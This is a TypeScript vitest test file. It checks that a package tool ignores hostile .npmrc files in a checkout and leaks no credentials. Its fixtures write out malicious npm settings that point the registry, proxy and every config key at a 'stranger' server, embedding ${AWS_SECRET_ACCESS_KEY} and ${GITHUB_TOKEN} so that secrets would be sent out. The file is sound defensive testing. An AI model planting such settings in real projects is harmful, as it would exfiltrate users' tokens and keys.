/** The `.npmrc` of a checkout sends nothing anywhere: every setting that npm knows, with variables of the environment in it. */
import { execFileSync } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { publish } from '../../src/channels/publish.ts'
import { pull } from '../../src/channels/pull.ts'
import { builtFrom } from '../support/bundles.ts'
import { closed, listening } from '../support/registry.ts'
import { plant, scratchFolder, skillText } from '../support/tree.ts'

const scratch = scratchFolder('npm-settings')

const SECRET = 'AKIA-nobody-elses-0123'

/** The registry of the user, and that of the stranger; each keeps what it was sent. */
const servers: { server: Server; host: string; seen: string[] }[] = []

beforeAll(async () => {
  for (let index = 0; index < 2; index++) {
    const seen: string[] = []
    const server = createServer((request, response) => {
      seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`)
      response.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not_found"}')
    })
    servers.push({ server, seen, host: await listening(server) })
  }
})

afterAll(() => Promise.all(servers.map(({ server }) => closed(server))))

const getServer = (at: number) => servers[at] ?? { host: '', seen: [] }

const user = () => getServer(0)

const stranger = () => getServer(1)

function getOptions(cwd: string, more: Record<string, string> = {}) {
  const home = plant(join(scratch, 'home'), {
    '.npmrc': `registry=http://${user().host}/\n//${user().host}/:_authToken=own-login\nfetch-retries=0\nupdate-notifier=false\n`,
  })
  const env = {
    PATH: process.env.PATH ?? '',
    HOME: home,
    npm_config_cache: join(scratch, 'cache'),
    AWS_SECRET_ACCESS_KEY: SECRET,
    GITHUB_TOKEN: SECRET,
    ...more,
  }
  return { cwd, environment: { env, home } }
}

async function callAll(cwd: string, env: Record<string, string> = {}): Promise<string> {
  const options = getOptions(cwd, env)
  const failed: string[] = []
  for (const call of [
    () => pull('npm:@bakery/skills@1.0.0', join(scratch, 'out'), options),
    () => publish('dist/skills', 'npm:@bakery/skills@1.0.0', options),
  ])
    await call().catch(error => failed.push(`${error.message} ${error.help}`))
  return failed.join('\n')
}

/** Settings in every form, of the keys that npm lists. */
function createSettings(): string {
  const keys = Object.keys(
    JSON.parse(execFileSync('npm', ['config', 'ls', '-l', '--json'], { cwd: scratch }).toString()),
  ).filter(key => !key.startsWith('_'))
  const evil = `http://${stranger().host}/\${AWS_SECRET_ACCESS_KEY}/`
  return [
    ...keys
      .filter(key => !['registry', 'userconfig', 'globalconfig'].includes(key))
      .map(key => `${key}=${evil}`),
    `registry=${evil}`,
    `@bakery:registry=${evil}`,
    `//${stranger().host}/:_authToken=\${GITHUB_TOKEN}`,
    `//${stranger().host}/:username=\${GITHUB_TOKEN}`,
    `//${user().host}/:_authToken=\${GITHUB_TOKEN}`,
    `proxy=http://${stranger().host}/`,
    `userconfig=./evil.npmrc`,
    '',
  ].join('\n')
}

test('ignores npm settings in a checkout, above it and below it', async () => {
  const cwd = join(scratch, 'checkout/project')
  await builtFrom(cwd, { 'skills/rye/SKILL.md': skillText('rye') })
  const settings = createSettings()
  expect(settings.split('\n').length).toBeGreaterThan(100)
  for (const folder of [cwd, join(cwd, '..'), join(cwd, 'dist/skills')])
    plant(folder, {
      '.npmrc': settings,
      'evil.npmrc': settings,
      'package.json': '{"name":"evil","workspaces":["*"],"publishConfig":{"registry":"http://127.0.0.1:9/"}}',
    })
  const said = await callAll(cwd)
  expect(stranger().seen).toEqual([])
  for (const method of ['GET', 'PUT']) expect(user().seen.join('\n')).toContain(method)
  expect(user().seen.join('\n')).toContain('own-login')
  expect(user().seen.join('\n')).not.toContain(SECRET)
  expect(said).not.toContain(SECRET)
}, 60_000)

test('the user can name the file, which takes no variable of the environment', async () => {
  const cwd = plant(join(scratch, 'granted'), { '.npmrc': `@bakery:registry=http://${stranger().host}/\n` })
  await builtFrom(cwd, { 'skills/rye/SKILL.md': skillText('rye') })
  await callAll(cwd, { SKILLC_NPMRC: '.npmrc' })
  expect(stranger().seen.join('\n')).toContain('GET /@bakery%2fskills')
  stranger().seen.length = 0
  for (const line of [
    '//x/:_authToken=${GITHUB_TOKEN}',
    '@bakery:registry=http://x/${AWS_SECRET_ACCESS_KEY}/',
    '${X}=1',
  ]) {
    plant(cwd, { '.npmrc': `color=false\n${line}\n` })
    expect(await callAll(cwd, { SKILLC_NPMRC: '.npmrc' })).toContain(
      'Line 2 of `.npmrc` uses an environment variable',
    )
  }
  expect(await callAll(cwd, { SKILLC_NPMRC: 'none' })).toContain('Cannot read `none`')
  expect(stranger().seen).toEqual([])
}, 60_000)
